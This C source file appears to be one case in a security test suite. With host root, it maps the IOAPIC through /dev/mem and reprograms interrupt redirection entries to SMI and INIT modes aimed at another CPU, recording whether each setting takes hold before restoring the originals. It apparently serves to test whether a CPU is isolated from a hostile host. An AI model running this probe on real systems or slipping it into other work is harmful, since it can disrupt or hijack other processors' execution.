// SPDX-License-Identifier: Apache-2.0
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
#include "attack.h"

#define IOAPIC	    0xfec00000ull
#define WINDOW	    4 /* in words: IOWIN stands at 0x10 */
#define ENTRY(pin)  (0x10u + 2 * (pin))
#define FIRST_PIN   20u /* unused on this machine: nothing is sent */
#define LAST_PIN    23u
#define MODE_MASK   0x700u
#define DESTINATION 0x01000000u /* APIC ID 1 */

static volatile uint32_t *ioapic;

static uint32_t get(uint32_t reg)
{
	ioapic[0] = reg;
	return ioapic[WINDOW];
}

static void put(uint32_t reg, uint32_t value)
{
	ioapic[0] = reg;
	ioapic[WINDOW] = value;
}

ATTACK(ioapic_init, "host root", ON_MACHINE,
       "The host sets entries of the IOAPIC to SMI and INIT for the other CPU. Gained: entries "
       "that keep such a mode, so that a device's interrupt would send it.")
{
	static const uint32_t modes[] = {0x200, 0x500};
	int mem = open("/dev/mem", O_RDWR | O_CLOEXEC | O_SYNC);

	if (mem < 0)
		die("/dev/mem");
	ioapic = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, mem, (off_t)IOAPIC);
	close(mem);
	if (ioapic == MAP_FAILED)
		die("mmap of the IOAPIC");
	for (unsigned pin = FIRST_PIN; pin <= LAST_PIN; pin++) {
		uint32_t low = get(ENTRY(pin)), high = get(ENTRY(pin) + 1);

		for (unsigned i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
			put(ENTRY(pin) + 1, DESTINATION);
			put(ENTRY(pin), modes[i]);
			tried(1);
			gained((get(ENTRY(pin)) & MODE_MASK) == modes[i]);
		}
		put(ENTRY(pin), low);
		put(ENTRY(pin) + 1, high);
	}
	munmap((void *)(uintptr_t)ioapic, PAGE);
}
